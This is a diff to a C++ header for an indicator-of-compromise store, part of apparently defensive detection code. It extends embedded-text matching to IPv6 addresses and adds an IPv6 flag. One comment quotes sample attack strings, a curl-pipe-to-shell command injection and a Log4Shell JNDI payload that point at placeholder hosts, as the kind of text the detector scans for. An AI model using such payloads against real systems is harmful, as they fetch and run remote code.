@@ -87,10 +87,10 @@ class IocStore {
   void MatchEvent(const Event& ev, int64_t now_millis, std::vector<IocMatch>* out) const;
   // Looks for indicators written inside free text, as an exploit or a log message carries them
   // ("...;curl http://198.51.100.9/x.sh|sh", "${jndi:ldap://evil.example/a}", "query:
-  // evil.example A"): the URLs (scheme://...) and their hosts, IPv4 addresses and domain names
-  // in `message`, and, with `payloads`, in the request target (decoded), the user agent and the
-  // referrer. Appends to *out what it does not hold yet, with the field the text came from.
-  // At most kMaxEmbeddedText bytes of each text are read.
+  // evil.example A"): the URLs (scheme://...) and their hosts, IPv4 and IPv6 addresses and
+  // domain names in `message`, and, with `payloads`, in the request target (decoded), the user
+  // agent and the referrer. Appends to *out what it does not hold yet, with the field the text came
+  // from. At most kMaxEmbeddedText bytes of each text are read.
   void MatchEmbedded(const Event& ev, bool payloads, int64_t now_millis,
                      std::vector<IocMatch>* out) const;
   static constexpr size_t kMaxEmbeddedText = 16384;
@@ -149,6 +149,7 @@ class IocStore {
   // The hosts of urls_ keys ("" for path-only URLs), to rule most URLs out cheaply.
   StringIndex url_hosts_;
   bool has_path_only_url_ = false;  // url_hosts_ holds ""
+  bool has_ipv6_network_ = false;   // networks_ holds an IPv6 address or network
   // Names this store's contents for the per-thread memo of hosts that match nothing: a fresh
   // value at construction and on every Add, never reused by another store.
   uint64_t generation_;
